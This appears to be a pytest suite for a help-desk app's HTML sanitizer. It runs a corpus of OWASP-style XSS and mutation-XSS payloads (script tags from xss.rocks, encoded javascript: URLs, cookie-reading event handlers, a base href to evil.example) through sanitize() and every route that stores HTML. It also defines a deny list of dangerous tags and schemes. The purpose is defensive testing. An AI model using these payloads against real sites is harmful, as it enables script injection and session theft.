"""The one HTML sanitizer: an XSS corpus, the allow-list, plain text, and every HTML field.

The corpus follows the OWASP XSS filter evasion cheat sheet plus known mutation-XSS
vectors. Each vector is checked on `sanitize()` itself and then sent through every
route that stores HTML; what is stored and what is answered must pass the same check.
"""

import html
import random
import re
from html.parser import HTMLParser

import pytest

from conversations.documents import Conversation
from incidents.documents import Incident
from servicedesk.richtext import sanitize, to_text

LIST = "/ux/sd/inci/incident/"
CONVERSATIONS = "/ux/sd/inci/conversation/"

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"  # <script>alert('XSS')</script>
DEC = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"  # javascript:
DEC_PADDED = (
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058"
)
HEX = "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
HEX_SEMI = "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
ALERT = "alert('XSS')"

VECTORS = [
    # --- scripts -----------------------------------------------------------------
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script>alert('XSS')</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<p><a href="https://ok.example">ok</a><script>document.write(\'<img src=x '
    "onerror=alert(1)>')</script></p>",
    # --- javascript: URLs and their disguises ------------------------------------
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f"<IMG SRC={DEC}{ALERT}>",
    f"<IMG SRC={DEC_PADDED}alert(1)>",
    f"<IMG SRC={HEX}alert(1)>",
    f'<a href="{DEC}{ALERT}">x</a>',
    f'<a href="{HEX_SEMI}alert(1)">x</a>',
    f'<a href="{DEC_PADDED}alert(1)">x</a>',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<a href="java\nscript:alert(1)">x</a>',
    '<IMG SRC=java\x00script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="  JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    '<q cite="javascript:alert(1)">q</q>',
    '<blockquote cite="javascript:alert(1)">b</blockquote>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<FORM ACTION=javascript:alert(1)><BUTTON>x</BUTTON></FORM>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<isindex action=javascript:alert(1) type=image>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    # --- vbscript: and data: --------------------------------------------------------
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<a href=\"VbScRiPt:msgbox('XSS')\">x</a>",
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    f'<a href="DaTa:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src=" data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    # --- event handlers -------------------------------------------------------------
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src=x onerror="{DEC_PADDED}alert(1)">',
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<svg/onload=alert('XSS')>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<img src=cid:logo onload=alert(1)>",
    '<img src="https://ok.example/a.png" onerror="alert(1)">',
    '<p OnClIcK="alert(1)">hi</p>',
    "<BR SIZE=\"&{alert('XSS')}\">",
    # --- iframes, objects, embeds, frames ---------------------------------------------
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
    '<embed src="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    # --- SVG and MathML ---------------------------------------------------------------
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<body><svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<math><maction actiontype="statusline#http://google.com" '
    'xlink:href="javascript:alert(2)">CLICKME</maction></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    # --- CSS ----------------------------------------------------------------------------
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">x</DIV>",
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<p style="color:red" onclick="alert(1)">hi</p>',
    # --- document-level tags ---------------------------------------------------------------
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{B64_SCRIPT}">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base target=_blank href=//evil.example/>",
    # --- mutation XSS and parser confusion ---------------------------------------------------
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><script>alert(1)</script></option></select>",
    "<style><img src=x onerror=alert(1)></style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="https://ok.example/"></a><img src=x onerror=alert(1)//',
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "meta", "link", "base", "form", "input", "button", "textarea", "select",
    "noscript", "template", "xmp", "bgsound", "isindex", "video", "audio", "source",
    "marquee", "details", "body", "head", "html", "title", "maction", "animate", "set",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "cite", "action", "formaction", "background", "dynsrc", "lowsrc",
    "data", "codebase", "poster", "xlink:href", "longdesc", "usemap", "srcset", "to",
}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
# Whitespace and control characters a browser ignores inside a URL scheme.
_IGNORED = re.compile(r"[\x00-\x20\x7f-\x9f]+")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _normalized(value: str) -> str:
    previous = None
    while previous != value:  # undo any level of entity encoding
        previous, value = value, html.unescape(value)
    return _IGNORED.sub("", value).lower()


def unsafe_parts(markup: str) -> list[str]:
    """What in `markup` could run script; empty when it is safe."""
    problems = []
    if re.search(r"<\s*script", markup, re.IGNORECASE):
        problems.append("<script")
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    for tag, attrs in collector.tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            name = name.lower()
            if name.startswith("on"):
                problems.append(f"event handler {name} on <{tag}>")
            if name == "style":
                problems.append(f"style on <{tag}>")
            clean = _normalized(value or "")
            if "javascript:" in clean or "vbscript:" in clean:
                problems.append(f"script URL in {name} on <{tag}>")
            if name in URL_ATTRIBUTES and clean.startswith(DANGEROUS_SCHEMES):
                problems.append(f"{clean[:12]!r} URL in {name} on <{tag}>")
    return problems


def assert_safe(markup: str, source: str = "") -> None:
    problems = unsafe_parts(markup)
    assert not problems, f"unsafe output {markup!r} from {source!r}: {problems}"


def vector_id(index: int) -> str:
    return f"v{index:03d}"


# --- the sanitizer itself ---------------------------------------------------------------


def test_the_corpus_is_large_enough_and_the_checker_catches_raw_vectors():
    assert len(VECTORS) >= 60
    assert len(set(VECTORS)) == len(VECTORS)
    caught = [vector for vector in VECTORS if unsafe_parts(vector)]
    # Nearly every raw vector is flagged; the checker is not vacuous.
    assert len(caught) >= len(VECTORS) - 10


@pytest.mark.parametrize("vector", VECTORS, ids=[vector_id(i) for i in range(len(VECTORS))])
def test_vector_is_neutralized_and_sanitizing_again_changes_nothing(vector):
    cleaned = sanitize(vector)
    assert_safe(cleaned, vector)
    assert sanitize(cleaned) == cleaned


@pytest.mark.parametrize(
    "markup",
    [
        "<pre>\n\nindented</pre>",
        "<pre>\n</pre>",
        "<b><pre><option>\r</pre></b>",
        '<pre><noscript></noscript>\n<a href="https://x.example">x</a></pre>',
        "<h1><option>&lt;<h1><div><dl><b></b></dl></div></h1>",
        "<dd></pre>&amp;<tbody><tr><colgroup><p><center><dd></ul>",
        "<dl><pre><dd><frameset><form><dd><script><li><svg>",
        "<dt><q><caption>]]><center><table><nobr><dd><th>",
        "<colgroup><head>'<pre><td><option>\n</a><script><tbody>",
    ],
)
def test_sanitizing_again_changes_nothing_for_shapes_the_parser_rebuilds(markup):
    cleaned = sanitize(markup)
    assert sanitize(cleaned) == cleaned


def test_a_leading_newline_in_pre_survives_saving_twice():
    once = sanitize("<pre>\n\n  indented</pre>")
    assert sanitize(sanitize(once)) == once
    assert to_text(once) == "indented"


TAG_SOUP = [
    "<p>", "</p>", "<pre>", "</pre>", "\n", "\r", "\t", "<table>", "<tr>", "<td>", "</td>",
    "<li>", "<ul>", "</ul>", '<a href="https://x.example">', "</a>", "<b>", "</b>", "text",
    " ", "&amp;", "&lt;", "<", ">", '"', "'", "<br>", '<img src="cid:a">', "<div>", "</div>",
    "<caption>", "<col>", "<colgroup>", "<tbody>", "<th>", "<dl>", "<dt>", "<dd>", "<h1>",
    "<blockquote>", "<code>", "<hr>", "<form>", "<script>", "</script>", "<style>", "<svg>",
    "<math>", "<noscript>", "</noscript>", "<select>", "<option>", "<textarea>", "<template>",
    "</template>", "<!--", "-->", "<![CDATA[", "]]>", "<title>", "<xmp>", "<plaintext>",
    "&nbsp;", "<q>", "<span>", "<nobr>", "<font>", "<center>", "<body>", "<html>", "<head>",
    "<frameset>", "<object>", "<mtext>", "<mglyph>", '<annotation-xml encoding="text/html">',
    "<foreignObject>", "<desc>", " onerror=alert(1)", "javascript:", "<img src=x ",
]  # fmt: skip


def test_sanitize_is_idempotent_and_safe_on_tag_soup():
    rng = random.Random(20250831)
    failures = []
    for _ in range(3000):
        markup = "".join(rng.choice(TAG_SOUP) for _ in range(rng.randint(1, 30)))
        cleaned = sanitize(markup)
        if sanitize(cleaned) != cleaned or unsafe_parts(cleaned):
            failures.append((markup, cleaned, sanitize(cleaned), unsafe_parts(cleaned)))
    assert not failures, failures[:5]


def test_allow_list_keeps_paragraphs_lists_tables_and_formatting():
    markup = (
        "<p>Hello <b>bold</b> <strong>strong</strong> <em>em</em> <i>i</i> <u>u</u></p>"
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>'
        '<table><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">c</td></tr></tbody></table>'
        "<blockquote>quoted</blockquote><pre><code>x = 1</code></pre><br><hr>"
    )
    cleaned = sanitize(markup)
    for kept in (
        "<p>",
        "<b>bold</b>",
        "<strong>strong</strong>",
        "<em>em</em>",
        "<ul><li>one</li><li>two</li></ul>",
        '<ol start="3"><li>three</li></ol>',
        '<th scope="col">h</th>',
        '<td colspan="2">c</td>',
        "<blockquote>quoted</blockquote>",
        "<pre><code>x = 1</code></pre>",
        "<br>",
        "<hr>",
    ):
        assert kept in cleaned
    assert sanitize(cleaned) == cleaned


@pytest.mark.parametrize(
    "href", ["http://example.com/a?b=1", "https://example.com/", "mailto:help@example.com"]
)
def test_links_with_safe_schemes_are_kept(href):
    cleaned = sanitize(f'<a href="{href}" title="t">link</a>')
    assert f'href="{html.escape(href)}"' in cleaned
    assert 'title="t"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert ">link</a>" in cleaned


@pytest.mark.parametrize(
    "src", ["cid:image001.png@01D9", "https://cdn.example.com/logo.png"], ids=["cid", "https"]
)
def test_inline_images_from_cid_and_https_are_kept(src):
    cleaned = sanitize(f'<img src="{src}" alt="logo" width="10" height="20">')
    assert cleaned == f'<img src="{src}" alt="logo" width="10" height="20">'


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="http://cdn.example.com/logo.png">',
        '<img src="/logo.png">',
        '<img src="ftp://example.com/logo.png">',
    ],
)
def test_images_from_other_sources_lose_their_src(markup):
    assert "src" not in sanitize(markup)


def test_script_content_is_removed_not_shown_as_text():
    assert sanitize("<p>ok</p><script>alert('XSS')</script>") == "<p>ok</p>"
    assert sanitize("<style>p{color:red}</style><p>ok</p>") == "<p>ok</p>"


def test_text_that_looks_like_markup_stays_text():
    cleaned = sanitize("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>")
    assert cleaned == "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>"
    assert sanitize("a < b") == "a &lt; b"


def test_empty_input_gives_empty_output():
    assert sanitize("") == ""
    assert sanitize("<script>x</script>") == ""
    assert to_text("") == ""


# --- plain text -----------------------------------------------------------------------------


def test_to_text_puts_blocks_on_lines_and_lists_with_dashes():
    markup = (
        "<h1>Title</h1><p>First   paragraph</p><p>Second<br>line</p>"
        "<ul><li>one</li><li>two</li></ul><ol><li>three</li></ol><div>end</div>"
    )
    assert to_text(markup) == (
        "Title\n\nFirst paragraph\n\nSecond\nline\n\n- one\n- two\n\n- three\n\nend"
    )


def test_to_text_unescapes_entities_once():
    assert to_text("<p>a &amp; b &lt;c&gt; &quot;d&quot; caf&eacute;&nbsp;x</p>") == (
        'a & b <c> "d" café x'
    )
    # An escaped entity is text: the reader sees "&lt;", not "<".
    assert to_text("<p>write &amp;lt; for &lt;</p>") == "write &lt; for <"


def test_to_text_of_a_table_keeps_cells_apart():
    text = to_text("<table><tr><th>Host</th><th>State</th></tr><tr><td>a</td><td>up</td></tr>")
    assert [line for line in text.splitlines() if line] == ["Host State", "a up"]


def test_to_text_ignores_markup_and_keeps_link_text():
    assert to_text('<p>see <a href="https://x.example">the page</a>.</p>') == "see the page."


# --- every HTML field over HTTP ----------------------------------------------------------------


def _create_incident(client, **fields):
    response = client.post(LIST, {"summary": "XSS", **fields}, format="json")
    assert response.status_code == 201, response.content
    return response.json()


def _expected_status(vector: str, *, required: bool, ok: int) -> int:
    """What a route answers: 400 for NUL characters, or for nothing left when required."""
    if "\x00" in vector or (required and not sanitize(vector.strip())):
        return 400
    return ok


def _through_create_description(tenant, vector):
    response = tenant.writer.post(LIST, {"summary": "x", "description": vector}, format="json")
    if response.status_code != 201:
        return response, None, None
    returned = response.json()["basic_info"]["description"]
    stored = Incident.objects.get(id=response.json()["incident_id"]).basic_info.description
    return response, returned, stored


def _through_patch_description(tenant, vector, state):
    if "incident" not in state:
        state["incident"] = _create_incident(tenant.writer)
    incident_id = state["incident"]["incident_id"]
    response = tenant.writer.patch(
        f"{LIST}{incident_id}/", {"basic_info": {"description": vector}}, format="json"
    )
    if response.status_code != 200:
        return response, None, None
    returned = response.json()["basic_info"]["description"]
    return response, returned, Incident.objects.get(id=incident_id).basic_info.description


def _through_resolve(tenant, vector):
    incident = _create_incident(tenant.writer)
    response = tenant.writer.post(
        f"{LIST}inci_resolve/",
        {
            "incident_id": incident["incident_id"],
            "resolution_type": "Fixed",
            "closure_note": vector,
        },
        format="json",
    )
    if response.status_code != 200:
        return response, None, None
    (result,) = response.json()["results"]
    assert result["ok"], result
    returned = result["incident"]["close_info"]["closure_note"]
    stored = Incident.objects.get(id=incident["incident_id"]).close_info.closure_note
    return response, returned, stored


def _through_conversation_create(tenant, vector, state):
    if "incident" not in state:
        state["incident"] = _create_incident(tenant.writer)
    response = tenant.writer.post(
        CONVERSATIONS,
        {
            "incident_id": state["incident"]["incident_id"],
            "kind": "note",
            "direction": "outbound",
            "body": vector,
        },
        format="json",
    )
    if response.status_code != 201:
        return response, None, None
    body = response.json()
    return response, body["body"], Conversation.objects.get(id=body["conversation_id"]).body_html


def _through_conversation_patch(tenant, vector, state):
    if "conversation" not in state:
        incident = _create_incident(tenant.writer)
        created = tenant.writer.post(
            CONVERSATIONS,
            {"incident_id": incident["incident_id"], "kind": "note", "body": "<p>first</p>"},
            format="json",
        )
        assert created.status_code == 201, created.content
        state["conversation"] = created.json()["conversation_id"]
    conversation_id = state["conversation"]
    response = tenant.writer.patch(
        f"{CONVERSATIONS}{conversation_id}/", {"body": vector}, format="json"
    )
    if response.status_code != 200:
        return response, None, None
    return response, response.json()["body"], Conversation.objects.get(id=conversation_id).body_html


def _through_save_rich_text(field):
    def through(tenant, vector, state):
        if "incident" not in state:
            state["incident"] = _create_incident(tenant.writer)
        incident_id = state["incident"]["incident_id"]
        response = tenant.writer.post(
            f"{LIST}save-rich-text/",
            {"incident_id": incident_id, "field": field, "html": vector},
            format="json",
        )
        if response.status_code != 200:
            return response, None, None
        doc = Incident.objects.get(id=incident_id)
        stored = (
            doc.basic_info.description if field == "description" else doc.close_info.closure_note
        )
        read = tenant.reader.get(
            f"{LIST}process-rich-text/", {"incident_id": incident_id, "field": field}
        )
        assert read.status_code == 200
        assert read.json()["html"] == stored
        assert_safe(read.json()["html"], vector)
        return response, response.json()["html"], stored

    return through


# route name -> (call(tenant, vector, state), success status, is the field required)
ROUTES = {
    "create description": (lambda t, v, s: _through_create_description(t, v), 201, False),
    "patch description": (_through_patch_description, 200, False),
    "resolve closure_note": (lambda t, v, s: _through_resolve(t, v), 200, True),
    "conversation create body": (_through_conversation_create, 201, True),
    "conversation patch body": (_through_conversation_patch, 200, True),
    "save-rich-text description": (_through_save_rich_text("description"), 200, False),
    "save-rich-text closure_note": (_through_save_rich_text("closure_note"), 200, False),
}


@pytest.mark.parametrize("route", list(ROUTES))
def test_every_html_field_stores_and_answers_only_safe_html(tenant, route):
    call, ok, required = ROUTES[route]
    state: dict = {}
    failures = []
    for index, vector in enumerate(VECTORS):
        response, returned, stored = call(tenant, vector, state)
        expected = _expected_status(vector, required=required, ok=ok)
        if response.status_code != expected:
            failures.append(f"{vector_id(index)} {vector!r}: {response.status_code} != {expected}")
            continue
        if expected != ok:
            continue
        for what, markup in (("returned", returned), ("stored", stored)):
            problems = unsafe_parts(markup)
            if problems:
                failures.append(f"{vector_id(index)} {what} {markup!r}: {problems}")
        if returned != stored or stored != sanitize(stored):
            failures.append(f"{vector_id(index)}: returned {returned!r} stored {stored!r}")
    assert not failures, "\n".join(failures)
